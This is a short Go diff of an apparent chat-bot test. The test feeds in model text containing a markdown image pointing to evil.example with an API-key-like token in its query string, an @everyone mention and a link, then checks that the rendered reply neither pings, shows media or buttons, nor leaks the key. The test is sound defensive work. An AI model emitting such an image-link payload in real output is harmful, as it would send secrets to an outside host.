@@ -408,7 +408,9 @@ func askedInGroups(s *scene) {
 func askedTrouble(s *scene) {
 	m := s.thinks(answering("See ![x](https://evil.example/a.png?k=sk-ant-api03-abcdefghijklmnopqrstuvwxyz0123456789) @everyone [press](https://evil.example/b)"))
 	s.say("what is there?")
-	seen := s.Await(s.room, "answer", func(m Seen) bool { return m.contains("See x (https://evil.example/a.png", "press (https://evil.example/b)") && !m.Has("Stop") })
+	seen := s.Await(s.room, "answer", func(m Seen) bool {
+		return m.contains("See x (https://evil.example/a.png", "press (https://evil.example/b)") && !m.Has("Stop")
+	})
 	if len(seen.Pings) > 0 || len(seen.Buttons) > 0 || seen.Media != nil || strings.Contains(seen.Text, "abcdefghijklmnop") {
 		s.t.Errorf("a model's text does more than stand there: %+v", seen)
 	}
